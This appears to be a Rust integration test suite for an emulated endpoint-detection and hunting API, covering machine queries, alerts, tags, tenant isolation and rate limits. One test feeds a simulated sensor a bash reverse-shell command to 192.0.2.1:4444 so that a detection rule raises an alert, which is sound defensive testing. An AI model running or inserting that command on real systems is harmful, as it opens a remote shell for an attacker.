//! Machines, alerts, machine actions and hunting, out of what sensors sent.

use crate::support::{TestSensor, World};
use chrono::TimeDelta;
use reqwest::Method;
use serde_json::{Value as Json, json};

fn names(answer: &Json) -> Vec<&str> {
    let value = answer["value"].as_array().unwrap_or_else(|| panic!("no list: {answer}"));
    value.iter().map(|machine| machine["computerDnsName"].as_str().expect("a name")).collect()
}

#[tokio::test]
async fn machines_are_filtered_ordered_paged_and_counted() {
    let world = World::start().await;
    for name in ["ash.tests.example", "birch.tests.example", "cedar.example", "o'hara.example"] {
        world.sensor(name).await;
        world.clock.advance(TimeDelta::seconds(10));
    }
    let token = world.first_token().await;
    let before = (world.clock.now() - TimeDelta::seconds(25))
        .to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    let after = format!("lastSeen gt {before}");
    let cases: &[(&str, &[&str])] = &[
        ("computerDnsName eq 'ash.tests.example'", &["ash.tests.example"]),
        ("computerDnsName eq 'o''hara.example'", &["o'hara.example"]),
        (
            "computerDnsName ne 'ash.tests.example' and computerDnsName ne 'cedar.example'",
            &["birch.tests.example", "o'hara.example"],
        ),
        ("startswith(computerDnsName,'birch')", &["birch.tests.example"]),
        (
            "endswith(computerDnsName,'tests.example')",
            &["ash.tests.example", "birch.tests.example"],
        ),
        ("contains(computerDnsName,'eda')", &["cedar.example"]),
        (
            "computerDnsName in ('ash.tests.example','cedar.example')",
            &["ash.tests.example", "cedar.example"],
        ),
        ("not (endswith(computerDnsName,'tests.example'))", &["cedar.example", "o'hara.example"]),
        (
            "(computerDnsName eq 'cedar.example' or startswith(computerDnsName,'ash')) and osPlatform eq 'Linux'",
            &["ash.tests.example", "cedar.example"],
        ),
        (
            "machineTags/any(tag: tag eq 'office') and startswith(computerDnsName,'ash')",
            &["ash.tests.example"],
        ),
        ("machineTags/any(tag: tag eq 'garden')", &[]),
        ("healthStatus eq 'Inactive'", &[]),
        (&after, &["cedar.example", "o'hara.example"]),
        ("riskScore eq 'None' and startswith(computerDnsName,'ash')", &["ash.tests.example"]),
    ];
    for (filter, expected) in cases {
        let path = format!("/api/machines?$orderby=computerDnsName&$filter={filter}");
        let answer = world.get(&path, &token).await;
        assert_eq!(answer.status, 200, "{filter}: {}", answer.body);
        assert_eq!(names(&answer.body), *expected, "{filter}");
    }
    // Pages follow each other without a gap.
    let mut path =
        "/api/machines?$orderby=computerDnsName desc&$top=3&$skip=0&$count=true".to_owned();
    let first = world.get(&path, &token).await;
    assert_eq!(first.body["@odata.count"], 4, "{}", first.body);
    assert_eq!(names(&first.body), ["o'hara.example", "cedar.example", "birch.tests.example"]);
    path = "/api/machines?$orderby=computerDnsName desc&$top=3&$skip=3".to_owned();
    assert_eq!(names(&world.get(&path, &token).await.body), ["ash.tests.example"]);
    let chosen = world.get("/api/machines?$select=id,computerDnsName&$top=1", &token).await;
    let keys: Vec<&String> =
        chosen.body["value"][0].as_object().expect("an object").keys().collect();
    assert_eq!(keys, ["id", "computerDnsName"]);
    world.clock.advance(TimeDelta::days(8));
    let token = world.first_token().await;
    let silent = world.get("/api/machines?$filter=healthStatus eq 'Inactive'", &token).await;
    assert_eq!(silent.body["value"].as_array().expect("a list").len(), 4, "silent for a week");
    world.stop().await;
}

#[tokio::test]
async fn bad_options_are_named() {
    let world = World::start().await;
    let token = world.first_token().await;
    let cases = [
        ("$filter=color eq 'red'", "color"),
        ("$filter=computerDnsName eq", "position 18"),
        ("$filter=computerDnsName eq 'open", "position 19"),
        ("$filter=computerDnsName like 'a'", "like"),
        ("$filter=lastSeen gt yesterday", "yesterday"),
        ("$filter=nothing(computerDnsName,'a')", "nothing"),
        ("$filter=(((computerDnsName eq 'a')", ")"),
        ("$orderby=color", "color"),
        ("$select=color", "color"),
        ("$expand=color", "color"),
        ("$top=-1", "-1"),
        ("$top=many", "many"),
        ("$top=10001", "10001"),
        ("$skip=x", "x"),
        ("$apply=x", "$apply"),
    ];
    for (options, named) in cases {
        let refused = world.get(&format!("/api/machines?{options}"), &token).await;
        assert_eq!(refused.status, 400, "{options}: {}", refused.body);
        let message = refused.body["error"]["message"].as_str().expect("a message");
        assert!(message.contains(named), "{options}: {message}");
    }
    let deep = format!("$filter={}computerDnsName eq 'a'{}", "(".repeat(3000), ")".repeat(3000));
    assert_eq!(world.get(&format!("/api/machines?{deep}"), &token).await.status, 400);
    world.stop().await;
}

#[tokio::test]
async fn a_machine_shows_what_its_sensor_reported() {
    let world = World::start().await;
    let sensor = world.sensor("fir.tests.example").await;
    let token = world.first_token().await;
    let id = sensor.id();
    assert_eq!(id.len(), 40);
    for path in [format!("/api/machines/{id}"), "/api/machines/FIR.tests.example".to_owned()] {
        let machine = world.get(&path, &token).await.body;
        assert_eq!(machine["id"], id);
        assert_eq!(machine["osPlatform"], "Linux");
        assert_eq!(machine["version"], "12.5");
        assert_eq!(machine["lastIpAddress"], "192.0.2.17");
        assert_eq!(machine["ipAddresses"][0]["macAddress"], "0200AABBCC01");
        assert_eq!(machine["machineTags"], json!(["office"]));
        assert_eq!(machine["healthStatus"], "Active");
        assert_eq!(machine["onboardingStatus"], "Onboarded");
    }
    let users = world.get(&format!("/api/machines/{id}/logonusers"), &token).await.body;
    assert_eq!(users["value"][0]["id"], "tests\\mira");
    assert_eq!(users["value"][0]["accountSid"], "1000");
    let tag = async |action: &str, value: &str| {
        let body = json!({"Value": value, "Action": action});
        world.post(&format!("/api/machines/{id}/tags"), &token, body).await
    };
    assert_eq!(tag("Add", "garden").await.body["machineTags"], json!(["office", "garden"]));
    assert_eq!(tag("Add", "garden").await.body["machineTags"], json!(["office", "garden"]));
    assert_eq!(tag("Remove", "office").await.body["machineTags"], json!(["garden"]));
    assert_eq!(tag("Paint", "x").await.status, 400);
    assert_eq!(tag("Add", "").await.status, 400);
    assert_eq!(tag("Add", &"x".repeat(201)).await.status, 400);
    assert_eq!(world.get("/api/machines/unknown", &token).await.status, 404);
    world.stop().await;
}

/// An alert by reference to an event; its id.
async fn raise(world: &World, token: &str, sensor: &mut TestSensor, severity: &str) -> Json {
    let time = world.clock.now();
    let report = sensor.process(time, "true", "/usr/bin/true").await;
    let body = json!({
        "machineId": sensor.id(), "severity": severity, "title": format!("Seen by {severity}"),
        "description": "a test", "recommendedAction": "none", "category": "Execution",
        "eventTime": time.to_rfc3339(), "reportId": report.to_string(),
    });
    let raised = world.post("/api/alerts/CreateAlertByReference", token, body).await;
    assert_eq!(raised.status, 200, "{}", raised.body);
    raised.body
}

#[tokio::test]
async fn alerts_are_raised_changed_and_hunted() {
    let world = World::start().await;
    let mut sensor = world.sensor("elm.tests.example").await;
    let token = world.first_token().await;
    let alert = raise(&world, &token, &mut sensor, "Medium").await;
    assert_eq!(alert["status"], "New");
    assert_eq!(alert["machineId"], sensor.id());
    assert_eq!(alert["computerDnsName"], "elm.tests.example");
    assert_eq!(alert["relatedUser"]["userName"], "mira");
    let kinds: Vec<&str> = alert["evidence"]
        .as_array()
        .expect("evidence")
        .iter()
        .filter_map(|e| e["entityType"].as_str())
        .collect();
    assert_eq!(kinds, ["User", "Process"]);
    let id = alert["id"].as_str().expect("an id").to_owned();
    raise(&world, &token, &mut sensor, "Low").await;
    assert_eq!(
        world.get(&format!("/api/machines/{}", sensor.id()), &token).await.body["riskScore"],
        "Medium"
    );

    let list =
        async |options: &str| world.get(&format!("/api/alerts?{options}"), &token).await.body;
    assert_eq!(list("$filter=severity eq 'Medium'").await["value"][0]["id"], *id);
    assert_eq!(list("$filter=severity eq 'Medium'").await["value"][0]["evidence"], json!([]));
    let expanded = list("$expand=evidence&$filter=severity eq 'Medium'").await;
    assert_eq!(expanded["value"][0]["evidence"].as_array().expect("evidence").len(), 2);
    assert_eq!(list("$top=1&$orderby=alertCreationTime asc").await["value"][0]["id"], *id);
    assert_eq!(list("$filter=status eq 'Resolved'").await["value"], json!([]));

    let path = format!("/api/alerts/{id}");
    let change = async |body: Json| world.call(Method::PATCH, &path, &token, Some(body)).await;
    let changed = change(
        json!({"status": "InProgress", "assignedTo": "sec@tests.example", "comment": "looking"}),
    )
    .await
    .body;
    assert_eq!(
        (&changed["status"], &changed["assignedTo"]),
        (&json!("InProgress"), &json!("sec@tests.example"))
    );
    assert_eq!(changed["comments"][0]["comment"], "looking");
    let done = change(
        json!({"status": "Resolved", "classification": "TruePositive", "determination": "Malware"}),
    )
    .await
    .body;
    assert!(done["resolvedTime"].is_string());
    assert_eq!(done["assignedTo"], "sec@tests.example", "what is not named stays");
    for bad in [
        json!({"status": "Gone"}),
        json!({"classification": "Maybe"}),
        json!({"determination": "Witchcraft"}),
        json!([1]),
    ] {
        assert_eq!(change(bad.clone()).await.status, 400, "{bad}");
    }
    assert_eq!(
        world.get(&path, &token).await.body["determination"],
        "Malware",
        "refused changes change nothing"
    );
    assert_eq!(
        world.get(&format!("/api/machines/{}", sensor.id()), &token).await.body["riskScore"],
        "Low"
    );

    // Hunting sees what the API sees, at once.
    let mut tries = 0;
    let query = format!(
        "AlertInfo | where AlertId == '{id}' | join kind=inner AlertEvidence on AlertId | project Severity, EntityType, DeviceId | order by EntityType asc"
    );
    loop {
        let rows = world.hunt(&token, &query).await;
        if rows.len() == 3 {
            assert_eq!(
                rows[0],
                json!({"Severity": "Medium", "EntityType": "Machine", "DeviceId": sensor.id()})
            );
            break;
        }
        tries += 1;
        assert!(tries < 50, "{rows:?}");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let missing = json!({
        "machineId": sensor.id(), "severity": "Low", "title": "t", "description": "d", "recommendedAction": "r",
        "category": "Execution", "eventTime": world.clock.now().to_rfc3339(), "reportId": "999",
    });
    let refused = world.post("/api/alerts/CreateAlertByReference", &token, missing.clone()).await;
    assert_eq!(refused.status, 404, "an event that nobody saw: {}", refused.body);
    for (name, value) in [
        ("severity", json!("Terrible")),
        ("eventTime", json!("noon")),
        ("machineId", json!("none")),
    ] {
        let mut body = missing.clone();
        body[name] = value;
        let status = world.post("/api/alerts/CreateAlertByReference", &token, body).await.status;
        assert!(status == 400 || (name == "machineId" && status == 404), "{name}: {status}");
    }
    world.stop().await;
}

/// A rule of the server finds an event as it arrives; the same event raises no second alert.
#[tokio::test]
async fn detections_raise_one_alert_and_add_to_it() {
    let world = World::start().await;
    let mut sensor = world.sensor("oak.tests.example").await;
    let token = world.first_token().await;
    let command = "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'";
    let until = async |wanted: &str, check: &dyn Fn(&[Json]) -> bool| {
        for _ in 0..60 {
            let list = world.get("/api/alerts?$expand=evidence", &token).await.body;
            let alerts = list["value"].as_array().expect("a list").clone();
            if check(&alerts) {
                return alerts;
            }
            tokio::time::sleep(std::time::Duration::from_millis(500)).await;
        }
        panic!("waited for {wanted}");
    };
    sensor.process(world.clock.now(), "bash", command).await;
    let first = until("an alert", &|alerts| alerts.len() == 1).await;
    assert_eq!(first[0]["severity"], "High");
    assert_eq!(first[0]["mitreTechniques"], json!(["T1059.004", "T1095"]));
    assert_eq!(first[0]["detectionSource"], "CustomDetection");
    let entities = |alerts: &[Json]| alerts[0]["evidence"].as_array().map_or(0, Vec::len);
    let had = entities(&first);
    sensor.process(world.clock.now(), "bash", command).await;
    let second = until("more evidence", &|alerts| entities(alerts) > had).await;
    assert_eq!(second.len(), 1, "the open alert took the second event");
    assert_eq!(second[0]["id"], first[0]["id"]);
    world.select_each("/api/alerts", &token).await;
    world.stop().await;
}

#[tokio::test]
async fn tenants_never_see_each_other() {
    let world = World::start().await;
    let all = [
        "AdvancedQuery.Read.All",
        "Alert.ReadWrite.All",
        "Machine.Isolate",
        "Machine.ReadWrite.All",
        "User.Read.All",
    ];
    let (_, theirs, key) = world.second_tenant(&all).await;
    let mut ours = world.sensor("ours.example").await;
    let mut other = TestSensor::enrol(&world, &key, "theirs.example").await.expect("enrolled");
    let token = world.first_token().await;
    let alert = raise(&world, &token, &mut ours, "High").await;
    let their_alert = raise(&world, &theirs, &mut other, "High").await;
    let action = world
        .post(
            &format!("/api/machines/{}/isolate", ours.id()),
            &token,
            json!({"Comment": "c", "IsolationType": "Full"}),
        )
        .await
        .body;

    for list in ["/api/machines", "/api/alerts", "/api/machineactions"] {
        let seen = world.get(&format!("{list}?$count=true"), &theirs).await.body.to_string();
        assert!(!seen.contains(ours.id()), "{list}: {seen}");
        let filtered = format!("{list}?$filter=id ne 'x' or id eq 'x'");
        let seen = world.get(&filtered, &theirs).await.body.to_string();
        assert!(!seen.contains(ours.id()), "{filtered}: {seen}");
    }
    let machine = ours.id();
    let alert = alert["id"].as_str().expect("an id");
    let action = action["id"].as_str().expect("an id");
    let tries = [
        (Method::GET, format!("/api/machines/{machine}"), None),
        (Method::GET, "/api/machines/ours.example".to_owned(), None),
        (Method::GET, format!("/api/machines/{machine}/logonusers"), None),
        (
            Method::POST,
            format!("/api/machines/{machine}/tags"),
            Some(json!({"Value": "x", "Action": "Add"})),
        ),
        (
            Method::POST,
            format!("/api/machines/{machine}/isolate"),
            Some(json!({"Comment": "c", "IsolationType": "Full"})),
        ),
        (Method::POST, format!("/api/machines/{machine}/unisolate"), Some(json!({"Comment": "c"}))),
        (Method::GET, format!("/api/alerts/{alert}"), None),
        (Method::PATCH, format!("/api/alerts/{alert}"), Some(json!({"status": "Resolved"}))),
        (Method::GET, format!("/api/machineactions/{action}"), None),
    ];
    for (method, path, body) in tries {
        let refused = world.call(method, &path, &theirs, body).await;
        assert_eq!(refused.status, 404, "{path}: {}", refused.body);
    }
    assert_eq!(world.get(&format!("/api/alerts/{alert}"), &token).await.body["status"], "New");
    let rows =
        world.hunt(&theirs, "union withsource=T Device*, AlertEvidence | distinct DeviceId").await;
    assert_eq!(rows, [json!({"DeviceId": other.id()})]);
    assert_ne!(their_alert["incidentId"], json!(null));
    world.stop().await;
}

#[tokio::test]
async fn queries_answer_with_schema_and_rows_or_say_what_is_wrong() {
    let world = World::start().await;
    let mut sensor = world.sensor("yew.tests.example").await;
    let token = world.first_token().await;
    let now = world.clock.now();
    for file in ["ls", "cat", "ls"] {
        sensor.process(now, file, file).await;
    }
    let body = json!({"Query": "DeviceProcessEvents | summarize Runs = count(), Last = max(Timestamp) by FileName | order by Runs desc"});
    for path in
        ["/api/advancedqueries/run", "/api/advancedhunting/run", "/api/v1.0/AdvancedQueries/Run"]
    {
        let answer = world.post(path, &token, body.clone()).await.body;
        assert_eq!(
            answer["Schema"],
            json!([{"Name": "FileName", "Type": "String"}, {"Name": "Runs", "Type": "Int64"}, {"Name": "Last", "Type": "DateTime"}]),
            "{answer}"
        );
        assert_eq!(answer["Results"][0]["FileName"], "ls");
        assert_eq!(answer["Results"][0]["Runs"], 2);
        assert!(answer["Results"][0]["Last"].as_str().expect("a time").ends_with('Z'));
    }
    // The device's name and id come from the server, not from the sensor.
    let rows = world.hunt(&token, "DeviceProcessEvents | distinct DeviceId, DeviceName").await;
    assert_eq!(rows, [json!({"DeviceId": sensor.id(), "DeviceName": "yew.tests.example"})]);
    for (query, told) in [
        ("DeviceProcesEvents | take 1", "DeviceProcessEvents"),
        ("DeviceProcessEvents | where FileNam == 'a'", "FileName"),
        ("DeviceProcessEvents\n| wher 1 == 1", "2:3"),
        ("DeviceProcessEvents | where (", "1:"),
        ("", "query"),
    ] {
        let refused = world.post("/api/advancedqueries/run", &token, json!({"Query": query})).await;
        assert_eq!(refused.status, 400, "{query}: {}", refused.body);
        let message = refused.body["error"]["message"].as_str().expect("a message");
        assert!(message.contains(told), "{query}: {message}");
    }
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tenant_that_hunts_too_often_is_told_when_to_come_back() {
    let world = World::start().await;
    let token = world.first_token().await;
    let body = json!({"Query": "print 1"});
    for _ in 0..45 {
        let answer = world.post("/api/advancedqueries/run", &token, body.clone()).await;
        assert_eq!(answer.status, 200, "{}", answer.body);
    }
    let refused = world.post("/api/advancedhunting/run", &token, body.clone()).await;
    assert_eq!((refused.status, &refused.body["error"]["code"]), (429, &json!("TooManyRequests")));
    let wait = refused.headers["retry-after"].to_str().unwrap().parse::<i64>().unwrap();
    assert!((1..=60).contains(&wait), "{wait}");
    world.clock.advance(chrono::TimeDelta::seconds(wait));
    assert_eq!(world.post("/api/advancedqueries/run", &token, body).await.status, 200);
    world.stop().await;
}
